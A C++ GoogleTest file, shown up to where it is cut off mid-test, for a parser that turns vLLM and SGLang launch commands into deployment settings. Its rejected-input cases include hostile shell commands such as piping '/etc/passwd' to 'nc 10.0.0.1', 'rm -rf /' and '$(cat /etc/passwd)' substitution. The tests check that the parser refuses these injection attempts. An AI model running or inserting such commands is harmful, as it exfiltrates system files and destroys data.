#include "service/translate/launch_line.h"

#include <string>
#include <vector>

#include "absl/strings/str_join.h"
#include "gmock/gmock.h"
#include "google/protobuf/text_format.h"
#include "google/protobuf/util/message_differencer.h"
#include "gtest/gtest.h"
#include "tests/test_common/status_matchers.h"

namespace capplan::service {
namespace {

using ::capplan::testing::StatusIs;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

// ------------------------------------------------------------ good lines

struct GoodCase {
  const char* name;
  const char* line;
  // The whole Deployment expected, as a text proto: every field the line
  // sets, and nothing else.
  const char* deployment;
  std::vector<std::string> unmodelled;  // checked exactly
  std::vector<std::string> ignored;     // checked exactly
  std::vector<std::string> environment;
};

void PrintTo(const GoodCase& c, std::ostream* os) { *os << c.name << ": " << c.line; }

class LaunchLineGoodTest : public ::testing::TestWithParam<GoodCase> {};

TEST_P(LaunchLineGoodTest, ParsesToTheExpectedDeployment) {
  const GoodCase& c = GetParam();
  absl::StatusOr<LaunchLine> parsed = ParseLaunchLine(c.line);
  ASSERT_TRUE(parsed.ok()) << parsed.status();
  v1::Deployment expected;
  ASSERT_TRUE(google::protobuf::TextFormat::ParseFromString(c.deployment, &expected))
      << c.deployment;
  std::string diff;
  google::protobuf::util::MessageDifferencer differencer;
  differencer.ReportDifferencesToString(&diff);
  EXPECT_TRUE(differencer.Compare(expected, parsed->deployment))
      << diff << "\ngot: " << parsed->deployment.ShortDebugString();
  EXPECT_EQ(parsed->model_argument, expected.model_id());
  EXPECT_EQ(parsed->unmodelled_flags, c.unmodelled)
      << absl::StrJoin(parsed->unmodelled_flags, " | ");
  EXPECT_EQ(parsed->ignored_flags, c.ignored) << absl::StrJoin(parsed->ignored_flags, " | ");
  EXPECT_EQ(parsed->environment, c.environment);
}

INSTANTIATE_TEST_SUITE_P(
    Vllm, LaunchLineGoodTest,
    ::testing::Values(
        GoodCase{"IssueExample",
                 "vllm serve Qwen/Qwen3-32B --tensor-parallel-size 2 --max-model-len 32768 "
                 "--gpu-memory-utilization 0.9",
                 R"pb(model_id: "Qwen/Qwen3-32B"
                      parallelism { tp: 2 }
                      engine {
                        kind: ENGINE_KIND_VLLM
                        max_model_len: 32768
                        gpu_memory_utilization: 0.9
                      })pb",
                 {},
                 {},
                 {}},
        GoodCase{"NothingButTheModel",
                 "vllm serve meta-llama/Llama-3.1-8B-Instruct --max-model-len 131072",
                 R"pb(model_id: "meta-llama/Llama-3.1-8B-Instruct"
                      engine { kind: ENGINE_KIND_VLLM max_model_len: 131072 })pb",
                 {},
                 {},
                 {}},
        GoodCase{"EqualsFormsShortFlagsExpertAndDataParallel",
                 "vllm serve deepseek-ai/DeepSeek-V3 -tp=8 --max-model-len=65536 "
                 "--kv-cache-dtype=fp8 --enable-expert-parallel -dp 2 --max-num-seqs 128",
                 R"pb(model_id: "deepseek-ai/DeepSeek-V3"
                      gpu_count: 16
                      parallelism { tp: 8 ep: 16 }
                      engine {
                        kind: ENGINE_KIND_VLLM
                        max_model_len: 65536
                        kv_cache_dtype: KV_CACHE_DTYPE_FP8
                        max_num_seqs: 128
                      })pb",
                 {},
                 {},
                 {}},
        // As quoted in https://github.com/QwenLM/Qwen3/issues/16.
        GoodCase{"OpenAiEntrypointWithEnvAndGptq",
                 "CUDA_VISIBLE_DEVICES=7 python -m vllm.entrypoints.openai.api_server "
                 "--model qwen/Qwen1.5-7B-Chat-GPTQ-Int4 --quantization gptq",
                 R"pb(model_id: "qwen/Qwen1.5-7B-Chat-GPTQ-Int4"
                      weight_format: WEIGHT_FORMAT_INT4_GPTQ
                      engine { kind: ENGINE_KIND_VLLM })pb",
                 {},
                 {},
                 {"CUDA_VISIBLE_DEVICES=7"}},
        GoodCase{"MultiLineWithSpeculativeConfigJson",
                 "vllm serve Qwen/Qwen3-Next-80B-A3B-Instruct \\\n"
                 "  --tensor-parallel-size 4 \\\n"
                 "  --speculative-config '{\"method\": \"qwen3_next_mtp\", "
                 "\"num_speculative_tokens\": 2}' \\\n"
                 "  --max-num-batched-tokens 8192 --enforce-eager --block-size 32\n",
                 R"pb(model_id: "Qwen/Qwen3-Next-80B-A3B-Instruct"
                      parallelism { tp: 4 }
                      engine {
                        kind: ENGINE_KIND_VLLM
                        max_num_batched_tokens: 8192
                        enforce_eager: true
                        block_size: 32
                        speculative_method: SPECULATIVE_METHOD_MTP
                        num_speculative_tokens: 2
                      })pb",
                 {},
                 {},
                 {}},
        // After https://github.com/vllm-project/recipes (moonshotai/Kimi-K2-Think.md).
        GoodCase{"KimiRecipeWithUnmodelledFlags",
                 "vllm serve moonshotai/Kimi-K2-Thinking --tensor-parallel-size 8 "
                 "--enable-auto-tool-choice --tool-call-parser kimi_k2 "
                 "--reasoning-parser kimi_k2 --trust-remote-code",
                 R"pb(model_id: "moonshotai/Kimi-K2-Thinking"
                      parallelism { tp: 8 }
                      engine { kind: ENGINE_KIND_VLLM })pb",
                 {"--enable-auto-tool-choice", "--tool-call-parser kimi_k2",
                  "--reasoning-parser kimi_k2"},
                 {"--trust-remote-code"},
                 {}},
        GoodCase{"UnknownSwitchBeforeTheModelDoesNotSwallowIt",
                 "vllm serve --disable-log-requests Qwen/Qwen2.5-7B-Instruct --swap-space 8",
                 R"pb(model_id: "Qwen/Qwen2.5-7B-Instruct"
                      engine { kind: ENGINE_KIND_VLLM })pb",
                 {"--disable-log-requests", "--swap-space 8"},
                 {},
                 {}},
        GoodCase{"CudaGraphSizesTakesTheLargest",
                 "vllm serve Qwen/Qwen3-8B --cuda-graph-sizes 1 2 4 8 16 256 64 "
                 "--gpu-memory-utilization 0.85",
                 R"pb(model_id: "Qwen/Qwen3-8B"
                      engine {
                        kind: ENGINE_KIND_VLLM
                        max_cudagraph_batch_size: 256
                        gpu_memory_utilization: 0.85
                      })pb",
                 {},
                 {},
                 {}},
        GoodCase{"MaxCudagraphCaptureSizeAndDecimalK",
                 "vllm serve Qwen/Qwen3-8B --max-cudagraph-capture-size 512 --max-model-len 32k "
                 "--max-num-batched-tokens 2K",
                 R"pb(model_id: "Qwen/Qwen3-8B"
                      engine {
                        kind: ENGINE_KIND_VLLM
                        max_cudagraph_batch_size: 512
                        max_model_len: 32000
                        max_num_batched_tokens: 2048
                      })pb",
                 {},
                 {},
                 {}},
        GoodCase{"UnderscoreSpellingsAndBinaryK",
                 "vllm serve Qwen/Qwen3-8B --max_model_len 32K --gpu_memory_utilization=0.8",
                 R"pb(model_id: "Qwen/Qwen3-8B"
                      engine {
                        kind: ENGINE_KIND_VLLM
                        max_model_len: 32768
                        gpu_memory_utilization: 0.8
                      })pb",
                 {},
                 {},
                 {}},
        GoodCase{"OlderEagleDraftModel",
                 "python3 -m vllm.entrypoints.openai.api_server --model "
                 "meta-llama/Llama-3.1-70B-Instruct --speculative-model "
                 "yuhuili/EAGLE-LLaMA3.1-Instruct-70B --num-speculative-tokens 5 -tp 4",
                 R"pb(model_id: "meta-llama/Llama-3.1-70B-Instruct"
                      parallelism { tp: 4 }
                      engine {
                        kind: ENGINE_KIND_VLLM
                        speculative_method: SPECULATIVE_METHOD_EAGLE
                        num_speculative_tokens: 5
                      })pb",
                 {},
                 {},
                 {}},
        GoodCase{"OlderNgramInDoubleQuotes",
                 "vllm serve facebook/opt-6.7b --speculative-model \"[ngram]\" "
                 "--num-speculative-tokens 3 --ngram-prompt-lookup-max 4",
                 R"pb(model_id: "facebook/opt-6.7b"
                      engine {
                        kind: ENGINE_KIND_VLLM
                        speculative_method: SPECULATIVE_METHOD_NGRAM
                        num_speculative_tokens: 3
                      })pb",
                 {"--ngram-prompt-lookup-max 4"},
                 {},
                 {}},
        GoodCase{"DottedSpeculativeConfig",
                 "vllm serve zai-org/GLM-4.5-Air --speculative-config.method mtp "
                 "--speculative-config.num_speculative_tokens=1",
                 R"pb(model_id: "zai-org/GLM-4.5-Air"
                      engine {
                        kind: ENGINE_KIND_VLLM
                        speculative_method: SPECULATIVE_METHOD_MTP
                        num_speculative_tokens: 1
                      })pb",
                 {},
                 {},
                 {}},
        GoodCase{"EagleJsonWithDraftModel",
                 "vllm serve meta-llama/Llama-3.1-8B-Instruct --speculative-config "
                 "'{\"model\": \"yuhuili/EAGLE3-LLaMA3.1-Instruct-8B\", \"method\": \"eagle3\", "
                 "\"num_speculative_tokens\": 4, \"draft_tensor_parallel_size\": 1}'",
                 R"pb(model_id: "meta-llama/Llama-3.1-8B-Instruct"
                      engine {
                        kind: ENGINE_KIND_VLLM
                        speculative_method: SPECULATIVE_METHOD_EAGLE
                        num_speculative_tokens: 4
                      })pb",
                 {"--speculative-config.draft_tensor_parallel_size=1"},
                 {},
                 {}},
        GoodCase{"IgnoredFlagsAndMultiValueServedName",
                 "vllm serve Qwen/Qwen3-8B --host 0.0.0.0 --port=8000 --served-model-name a b "
                 "--no-enable-prefix-caching --max-num-seqs 64",
                 R"pb(model_id: "Qwen/Qwen3-8B"
                      engine {
                        kind: ENGINE_KIND_VLLM
                        max_num_seqs: 64
                        enable_prefix_caching: false
                      })pb",
                 {},
                 {"--host 0.0.0.0", "--port=8000", "--served-model-name a b"},
                 {}},
        GoodCase{"AwqMarlinWithHalfDtype",
                 "vllm serve Qwen/Qwen2.5-32B-Instruct-AWQ --quantization awq_marlin --dtype half",
                 R"pb(model_id: "Qwen/Qwen2.5-32B-Instruct-AWQ"
                      weight_format: WEIGHT_FORMAT_INT4_AWQ
                      engine { kind: ENGINE_KIND_VLLM })pb",
                 {},
                 {},
                 {}},
        GoodCase{"ShortQuantizationAndPipeline",
                 "vllm serve meta-llama/Llama-3.1-405B-Instruct -q fp8 --kv-cache-dtype fp8_e5m2 "
                 "-pp 2 -tp 8",
                 R"pb(model_id: "meta-llama/Llama-3.1-405B-Instruct"
                      weight_format: WEIGHT_FORMAT_FP8_PER_TENSOR
                      parallelism { tp: 8 pp: 2 }
                      engine { kind: ENGINE_KIND_VLLM kv_cache_dtype: KV_CACHE_DTYPE_FP8 })pb",
                 {},
                 {},
                 {}},
        GoodCase{"NohupRedirectionsAndBackground",
                 "nohup vllm serve Qwen/Qwen3-4B --port 8000 > vllm.log 2>&1 &",
                 R"pb(model_id: "Qwen/Qwen3-4B"
                      engine { kind: ENGINE_KIND_VLLM })pb",
                 {},
                 {"--port 8000"},
                 {}},
        GoodCase{"EscapedSpaceInLocalPath",
                 "HF_HOME=/data/hf VLLM_USE_V1=1 vllm serve /models/my\\ model "
                 "--max-model-len 8192",
                 R"pb(model_id: "/models/my model"
                      engine { kind: ENGINE_KIND_VLLM max_model_len: 8192 })pb",
                 {},
                 {},
                 {"HF_HOME=/data/hf", "VLLM_USE_V1=1"}},
        GoodCase{"ServeWithModelFlagAndNoEnforceEager",
                 "/opt/venv/bin/vllm serve --model \"Qwen/Qwen3-14B\" --no-enforce-eager",
                 R"pb(model_id: "Qwen/Qwen3-14B"
                      engine { kind: ENGINE_KIND_VLLM enforce_eager: false })pb",
                 {},
                 {},
                 {}},
        GoodCase{"CompilationConfigJson",
                 "vllm serve Qwen/Qwen3-8B --compilation-config '{\"cudagraph_capture_sizes\": "
                 "[1, 2, 4, 8, 96], \"cudagraph_mode\": \"FULL_DECODE_ONLY\", \"level\": 3}'",
                 R"pb(model_id: "Qwen/Qwen3-8B"
                      engine { kind: ENGINE_KIND_VLLM max_cudagraph_batch_size: 96 })pb",
                 {"--compilation-config.cudagraph_mode=FULL_DECODE_ONLY",
                  "--compilation-config.level=3"},
                 {},
                 {}},
        GoodCase{"ShortCompilationFlagAndCaptureSizes",
                 "vllm serve Qwen/Qwen3-8B -O '{\"cudagraph_mode\": \"NONE\"}' -O3 "
                 "--cudagraph-capture-sizes 1 2 4 8",
                 R"pb(model_id: "Qwen/Qwen3-8B"
                      engine {
                        kind: ENGINE_KIND_VLLM
                        enforce_eager: true
                        max_cudagraph_batch_size: 8
                      })pb",
                 {"-O3"},
                 {},
                 {}},
        GoodCase{"DottedCompilationKeys",
                 "vllm serve Qwen/Qwen3-8B -O.max_cudagraph_capture_size=64 "
                 "--compilation-config.cudagraph_mode none",
                 R"pb(model_id: "Qwen/Qwen3-8B"
                      engine {
                        kind: ENGINE_KIND_VLLM
                        enforce_eager: true
                        max_cudagraph_batch_size: 64
                      })pb",
                 {},
                 {},
                 {}},
        GoodCase{"CompressedTensorsDefersToTheCheckpoint",
                 "vllm serve RedHatAI/Llama-3.1-8B-Instruct-FP8 --quantization compressed-tensors "
                 "--no-enable-expert-parallel",
                 R"pb(model_id: "RedHatAI/Llama-3.1-8B-Instruct-FP8"
                      parallelism { ep: 1 }
                      engine { kind: ENGINE_KIND_VLLM })pb",
                 {"--quantization compressed-tensors"},
                 {},
                 {}}),
    [](const ::testing::TestParamInfo<GoodCase>& info) { return info.param.name; });

INSTANTIATE_TEST_SUITE_P(
    Sglang, LaunchLineGoodTest,
    ::testing::Values(
        // As quoted in https://github.com/vllm-project/vllm/issues/21348.
        GoodCase{"EngineLogQwen3Fp8",
                 "python3 -m sglang.launch_server --model /path/to/Qwen3-235B-A22B-FP8 --tp 4 "
                 "--trust-remote-code --mem-fraction-static 0.93",
                 R"pb(model_id: "/path/to/Qwen3-235B-A22B-FP8"
                      parallelism { tp: 4 }
                      engine { kind: ENGINE_KIND_SGLANG mem_fraction_static: 0.93 })pb",
                 {},
                 {"--trust-remote-code"},
                 {}},
        GoodCase{"DeepSeekDpAttentionWithNextn",
                 "python -m sglang.launch_server --model-path deepseek-ai/DeepSeek-V3-0324 "
                 "--tp 8 --dp 8 --enable-dp-attention --ep-size 8 --context-length 65536 "
                 "--chunked-prefill-size 16384 --max-running-requests 256 "
                 "--kv-cache-dtype fp8_e4m3 --cuda-graph-max-bs 128 "
                 "--speculative-algorithm NEXTN --speculative-num-steps 3 "
                 "--speculative-eagle-topk 1 --speculative-num-draft-tokens 4",
                 R"pb(model_id: "deepseek-ai/DeepSeek-V3-0324"
                      parallelism { tp: 8 ep: 8 dp_attention: true }
                      engine {
                        kind: ENGINE_KIND_SGLANG
                        max_model_len: 65536
                        max_num_batched_tokens: 16384
                        max_num_seqs: 256
                        kv_cache_dtype: KV_CACHE_DTYPE_FP8
                        max_cudagraph_batch_size: 128
                        speculative_method: SPECULATIVE_METHOD_MTP
                        num_speculative_tokens: 3
                      })pb",
                 {"--speculative-eagle-topk 1"},
                 {},
                 {}},
        GoodCase{"ReplicasPageSizeNoGraphsInt8",
                 "python3 -m sglang.launch_server --model-path Qwen/Qwen2.5-72B-Instruct "
                 "--tp-size 2 --dp-size 2 --page-size 64 --disable-cuda-graph "
                 "--max-total-tokens 200000 --quantization w8a8_int8 --host 0.0.0.0 "
                 "--port 30000",
                 R"pb(model_id: "Qwen/Qwen2.5-72B-Instruct"
                      gpu_count: 4
                      weight_format: WEIGHT_FORMAT_INT8
                      parallelism { tp: 2 }
                      engine { kind: ENGINE_KIND_SGLANG block_size: 64 enforce_eager: true })pb",
                 {"--max-total-tokens 200000"},
                 {"--host 0.0.0.0", "--port 30000"},
                 {}},
        GoodCase{"Eagle3FromDraftTokensOnly",
                 "python -m sglang.launch_server --model-path meta-llama/Llama-3.1-8B-Instruct "
                 "--speculative-algorithm EAGLE3 --speculative-draft-model-path "
                 "jamesliu1/sglang-EAGLE3-Llama-3.1-Instruct-8B --speculative-num-draft-tokens 6",
                 R"pb(model_id: "meta-llama/Llama-3.1-8B-Instruct"
                      engine {
                        kind: ENGINE_KIND_SGLANG
                        speculative_method: SPECULATIVE_METHOD_EAGLE
                        num_speculative_tokens: 5
                      })pb",
                 {"--speculative-draft-model-path jamesliu1/sglang-EAGLE3-Llama-3.1-Instruct-8B"},
                 {},
                 {}},
        GoodCase{"OlderEpMoeSwitch",
                 "python3 -m sglang.launch_server --model-path Qwen/Qwen3-30B-A3B --tp 4 "
                 "--enable-ep-moe --tensor-parallel-size=4",
                 R"pb(model_id: "Qwen/Qwen3-30B-A3B"
                      parallelism { tp: 4 ep: 4 }
                      engine { kind: ENGINE_KIND_SGLANG })pb",
                 {},
                 {},
                 {}},
        GoodCase{"ChunkedPrefillOffAndGraphBatchList",
                 "python3 -m sglang.launch_server --model-path Qwen/Qwen3-8B "
                 "--chunked-prefill-size -1 --cuda-graph-bs 1 2 4 8 160 --disable-radix-cache",
                 R"pb(model_id: "Qwen/Qwen3-8B"
                      engine {
                        kind: ENGINE_KIND_SGLANG
                        max_cudagraph_batch_size: 160
                        enable_prefix_caching: false
                      })pb",
                 {"--chunked-prefill-size -1"},
                 {},
                 {}},
        GoodCase{"CountsWithoutAlgorithmAreIgnored",
                 "python3 -m sglang.launch_server --model-path Qwen/Qwen3-8B "
                 "--speculative-num-steps 3 --speculative-num-draft-tokens=4",
                 R"pb(model_id: "Qwen/Qwen3-8B"
                      engine { kind: ENGINE_KIND_SGLANG })pb",
                 {"--speculative-num-steps 3", "--speculative-num-draft-tokens=4"},
                 {},
                 {}},
        GoodCase{"BackgroundWithRedirections",
                 "nohup vllm serve Qwen/Qwen3-8B --max-model-len 8192 > server.log 2>&1 &",
                 R"pb(model_id: "Qwen/Qwen3-8B"
                      engine { kind: ENGINE_KIND_VLLM max_model_len: 8192 })pb",
                 {},
                 {},
                 {}},
        GoodCase{"CommentLineAndQuotedMetacharacters",
                 "# the server\nvllm serve Qwen/Qwen3-8B --served-model-name 'a;b|c $(d)'\n",
                 R"pb(model_id: "Qwen/Qwen3-8B"
                      engine { kind: ENGINE_KIND_VLLM })pb",
                 {},
                 {"--served-model-name a;b|c $(d)"},
                 {}},
        GoodCase{"MultiLineWithEnvAndPipeline",
                 "SGLANG_ENABLE_JIT_DEEPGEMM=0 \\\n"
                 "python3 -m sglang.launch_server \\\n"
                 "    --model-path \"zai-org/GLM-4.6-FP8\" \\\n"
                 "    --pp-size 2 --tp-size 4 \\\n"
                 "    --mem-fraction-static=0.88 | tee server.log",
                 R"pb(model_id: "zai-org/GLM-4.6-FP8"
                      parallelism { tp: 4 pp: 2 }
                      engine { kind: ENGINE_KIND_SGLANG mem_fraction_static: 0.88 })pb",
                 {},
                 {},
                 {"SGLANG_ENABLE_JIT_DEEPGEMM=0"}}),
    [](const ::testing::TestParamInfo<GoodCase>& info) { return info.param.name; });

// ------------------------------------------------------------- bad lines

struct BadCase {
  const char* name;
  const char* line;
  const char* message;  // a substring of the error
};

void PrintTo(const BadCase& c, std::ostream* os) { *os << c.name << ": " << c.line; }

class LaunchLineBadTest : public ::testing::TestWithParam<BadCase> {};

TEST_P(LaunchLineBadTest, IsInvalidArgumentNamingFlagValueAndRule) {
  const BadCase& c = GetParam();
  absl::StatusOr<LaunchLine> parsed = ParseLaunchLine(c.line);
  EXPECT_THAT(parsed, StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr(c.message)))
      << (parsed.ok() ? parsed->deployment.ShortDebugString() : "");
}

INSTANTIATE_TEST_SUITE_P(
    All, LaunchLineBadTest,
    ::testing::Values(
        BadCase{"WordForTp", "vllm serve Qwen/Qwen3-32B --tensor-parallel-size two",
                "--tensor-parallel-size = two; must be a whole number ≥ 1"},
        BadCase{"ZeroTpShortForm", "vllm serve Qwen/Qwen3-32B -tp 0",
                "-tp = 0; must be a whole number ≥ 1"},
        BadCase{"NegativePp", "vllm serve Qwen/Qwen3-32B --pipeline-parallel-size=-2",
                "--pipeline-parallel-size = -2; must be a whole number ≥ 1"},
        BadCase{"HugeTp", "vllm serve Qwen/Qwen3-32B -tp 99999999",
                "-tp = 99999999; must be at most 1048576"},
        BadCase{"NoModel", "vllm serve --max-model-len 4096", "launch line: no model given"},
        BadCase{"NoModelSglang", "python3 -m sglang.launch_server --tp 2",
                "launch line: no model given (--model-path MODEL)"},
        BadCase{"NoModelOpenAi", "python -m vllm.entrypoints.openai.api_server --port 8000",
                "launch line: no model given"},
        BadCase{"EmptyModel", "vllm serve ''", "launch line: the model argument is empty"},
        BadCase{"NotAServer", "foo --bar",
                "launch line: not a vLLM, SGLang or TensorRT-LLM server command: 'foo'"},
        BadCase{"VllmBench", "vllm bench serve --model X",
                "launch line: not a vLLM, SGLang or TensorRT-LLM server command: 'vllm bench'"},
        BadCase{"OtherPythonModule", "python3 -m http.server 8000",
                "launch line: not a vLLM, SGLang or TensorRT-LLM server command: 'python3 -m "
                "http.server'"},
        BadCase{
            "PythonScript", "python serve.py --model X",
            "launch line: not a vLLM, SGLang or TensorRT-LLM server command: 'python serve.py'"},
        BadCase{"Empty", "   ", "launch line: no command given"},
        BadCase{"OnlyEnvironment", "CUDA_VISIBLE_DEVICES=0", "launch line: no command given"},
        BadCase{"UtilisationAboveOne", "vllm serve X --gpu-memory-utilization 1.5",
                "--gpu-memory-utilization = 1.5; must be a fraction in (0, 1]"},
        BadCase{"UtilisationNotANumber", "vllm serve X --gpu-memory-utilization=90%",
                "--gpu-memory-utilization = 90%; must be a fraction in (0, 1]"},
        BadCase{"MemFractionZero",
                "python3 -m sglang.launch_server --model-path X --mem-fraction-static 0",
                "--mem-fraction-static = 0; must be a fraction in (0, 1]"},
        BadCase{"MissingValueAtEnd", "vllm serve X --gpu-memory-utilization",
                "--gpu-memory-utilization: expects a value"},
        BadCase{"MissingValueBeforeFlag", "vllm serve X --max-model-len --enforce-eager",
                "--max-model-len: expects a value"},
        BadCase{"BadHumanReadable", "vllm serve X --max-model-len 32k5",
                "--max-model-len = 32k5; must be a whole number ≥ 1"},
        // (the fuzzer's: 1.9e91 × 1000 does not fit 64 bits; the cast was undefined)
        BadCase{"HumanReadablePastSixtyFourBits", "vllm serve X --max-model-len 1.9e91k",
                "--max-model-len = 1.9e91k; must be at most 1099511627776"},
        BadCase{"DecimalWithBinarySuffix", "vllm serve X --max-model-len 1.5K",
                "--max-model-len = 1.5K; must be a whole number ≥ 1"},
        BadCase{"SglangHasNoHumanReadable",
                "python3 -m sglang.launch_server --model-path X --context-length 32k",
                "--context-length = 32k; must be a whole number ≥ 1"},
        BadCase{"UnterminatedSingleQuote", "vllm serve 'Qwen/Qwen3-32B --tp 2",
                "launch line: unterminated ' quote starting at character 12"},
        BadCase{"UnterminatedDoubleQuote", "vllm serve X --speculative-config \"{",
                "launch line: unterminated \" quote"},
        BadCase{"KvDtypeFp4", "vllm serve X --kv-cache-dtype fp4_e2m1",
                "--kv-cache-dtype = fp4_e2m1; must be auto, fp8"},
        BadCase{"QuantizationNotModelled", "vllm serve X --quantization bitsandbytes",
                "--quantization = bitsandbytes; must be a quantization method capplan models"},
        BadCase{"FractionalSpeculativeTokens",
                "vllm serve X --speculative-config '{\"method\": \"mtp\", "
                "\"num_speculative_tokens\": 2.5}'",
                "--speculative-config.num_speculative_tokens = 2.5; must be a whole number ≥ 1"},
        BadCase{"QuotedSpeculativeTokens",
                "vllm serve X --speculative-config '{\"method\": \"mtp\", "
                "\"num_speculative_tokens\": \"2\"}'",
                "--speculative-config.num_speculative_tokens = 2; must be a whole number ≥ 1"},
        BadCase{"SpeculativeConfigNotJson", "vllm serve X --speculative-config '{method: mtp}'",
                "--speculative-config = {method: mtp}; must be a JSON object"},
        BadCase{"UnknownSpeculativeMethod",
                "vllm serve X --speculative-config '{\"method\": \"medusa2\"}'",
                "--speculative-config.method = medusa2; must be mtp"},
        BadCase{"DottedTokensNotANumber",
                "vllm serve X --speculative-config.num_speculative_tokens many",
                "--speculative-config.num_speculative_tokens = many; must be a whole number ≥ 1"},
        BadCase{"UnknownSglangAlgorithm",
                "python3 -m sglang.launch_server --model-path X --speculative-algorithm FOO",
                "--speculative-algorithm = FOO; must be EAGLE"},
        BadCase{"ModelTwice", "vllm serve Qwen/A --model Qwen/B",
                "launch line: model given twice ('Qwen/A' and 'Qwen/B')"},
        BadCase{"SwitchWithBadValue", "vllm serve X --enforce-eager=maybe",
                "--enforce-eager = maybe; must be true or false"},
        BadCase{"GraphSizeNotANumber", "vllm serve X --cuda-graph-sizes 8 x",
                "--cuda-graph-sizes = x; must be a whole number ≥ 1"},
        BadCase{"UnknownCudagraphMode",
                "vllm serve X --compilation-config '{\"cudagraph_mode\": \"SOMETIMES\"}'",
                "--compilation-config.cudagraph_mode = SOMETIMES; must be NONE"},
        BadCase{"CaptureSizeListWithAWord", "vllm serve X -O.cudagraph_capture_sizes=[1,x]",
                "-O.cudagraph_capture_sizes = x; must be a whole number ≥ 1"},
        BadCase{"CompilationConfigNotJson", "vllm serve X --compilation-config fast",
                "--compilation-config = fast; must be a JSON object"},
        BadCase{"TooManyGpusInAll", "vllm serve X -tp 1024 -pp 1024 -dp 1024",
                "launch line: tp × pp × dp = 1024 × 1024 × 1024 GPUs; must be at most 1048576"},
        BadCase{"MaxNumSeqsZero", "vllm serve X --max-num-seqs 0",
                "--max-num-seqs = 0; must be a whole number ≥ 1"},
        BadCase{"SglangEpWord", "python3 -m sglang.launch_server --model-path X --ep-size eight",
                "--ep-size = eight; must be a whole number ≥ 1"},
        BadCase{"UnknownDtype", "vllm serve X --dtype int3",
                "--dtype = int3; must be one of auto, half, float16, bfloat16, float, float32"},
        BadCase{"SecondCommandAfterSemicolon",
                "vllm serve X --max-model-len 8192; cat /etc/passwd | nc 10.0.0.1 9",
                "launch line: ';' starts another command at character 34 (\"; cat /etc/passwd | "
                "nc 10.0.0.1 9\")"},
        BadCase{"SecondCommandAfterAnd", "vllm serve X && rm -rf /",
                "launch line: '&&' starts another command at character 14"},
        BadCase{"SecondCommandAfterBackground", "vllm serve X & curl example.com",
                "launch line: '&' starts another command at character 14"},
        BadCase{"SecondCommandOnANewLine", "vllm serve X\ncurl example.com",
                "launch line: a new line starts another command at character 13"},
        BadCase{"PipeIntoAnythingButTee", "vllm serve X | nc 10.0.0.1 9",
                "launch line: '|' starts another command at character 14"},
        BadCase{"TeeThenMore", "vllm serve X | tee log | nc 10.0.0.1 9",
                "launch line: '|' starts another command at character 14"},
        BadCase{"CommandSubstitution", "vllm serve X --port $(cat /etc/passwd)",
                "launch line: command substitution at character 21"},
        BadCase{"BackquotesInDoubleQuotes", "vllm serve X --served-model-name \"`id`\"",
                "launch line: command substitution at character 35"},
        BadCase{
            "LongTailIsCut",
            "vllm serve X; echo "
            "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
            "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
            "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
            "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
            "xxxx…\")"}),
    [](const ::testing::TestParamInfo<BadCase>& info) { return info.param.name; });

// ------------------------------------------------------------ shell words

struct WordsCase {
  const char* name;
  const char* line;
  std::vector<std::string> words;
};

void PrintTo(const WordsCase& c, std::ostream* os) { *os << c.name << ": " << c.line; }

class SplitShellWordsTest : public ::testing::TestWithParam<WordsCase> {};

TEST_P(SplitShellWordsTest, SplitsAsAShellWould) {
  const WordsCase& c = GetParam();
  absl::StatusOr<std::vector<std::string>> words = SplitShellWords(c.line);
  ASSERT_TRUE(words.ok()) << words.status();
  EXPECT_EQ(*words, c.words) << absl::StrJoin(*words, "|");
}

INSTANTIATE_TEST_SUITE_P(
    All, SplitShellWordsTest,
    ::testing::Values(
        WordsCase{"PlainWordsAndRunsOfBlanks", "a  b\tc", {"a", "b", "c"}},
        WordsCase{"SingleQuotesKeepEverything", "a 'b c $d \\e'", {"a", "b c $d \\e"}},
        WordsCase{"DoubleQuotesEscapeOnlyFour",
                  "\"a\\\"b\" \"c\\d\" \"e\\\\f\" \"g\\$h\"",
                  {"a\"b", "c\\d", "e\\f", "g$h"}},
        WordsCase{"BackslashOutsideQuotes", "f\\ g h\\'i", {"f g", "h'i"}},
        WordsCase{"AdjacentPartsJoin", "--x='{\"a\": 1}'\"z\"", {"--x={\"a\": 1}z"}},
        WordsCase{"ContinuationBetweenWords", "a \\\n  b", {"a", "b"}},
        WordsCase{"ContinuationInsideAWord", "ab\\\ncd", {"abcd"}},
        WordsCase{"WindowsContinuation", "a \\\r\n b", {"a", "b"}},
        WordsCase{"ContinuationInsideDoubleQuotes", "\"a\\\nb\"", {"ab"}},
        WordsCase{"EmptyQuotedWordIsAWord", "a '' b", {"a", "", "b"}},
        WordsCase{"PipeEndsTheCommand", "a b | tee log", {"a", "b"}},
        WordsCase{"AndEndsTheCommand", "a && b", {"a"}},
        WordsCase{"SemicolonEndsTheCommand", "a;b", {"a"}},
        WordsCase{"RedirectionsAreDropped", "a > log 2>&1 b >>more c", {"a", "b", "c"}},
        WordsCase{"QuotedOperatorsAreText", "a 'x|y' \"p;q\" r\\&s", {"a", "x|y", "p;q", "r&s"}},
        WordsCase{"CommentAtWordStart", "a b # c d\n", {"a", "b"}},
        WordsCase{"HashInsideAWord", "a#b", {"a#b"}}, WordsCase{"NothingAtAll", "", {}}),
    [](const ::testing::TestParamInfo<WordsCase>& info) { return info.param.name; });

TEST(SplitShellWords, UnterminatedQuoteIsInvalid) {
  // The quote is the third character of each line.
  EXPECT_THAT(SplitShellWords("a \"b"),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("launch line: unterminated \" quote starting at character 3")));
  EXPECT_THAT(SplitShellWords("a 'b"),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("launch line: unterminated ' quote starting at character 3")));
}

// ------------------------------------------------------------ single facts

TEST(ParseLaunchLine, DtypeIsReturnedNotAppliedPrefixCachingIsApplied) {
  absl::StatusOr<LaunchLine> parsed = ParseLaunchLine(
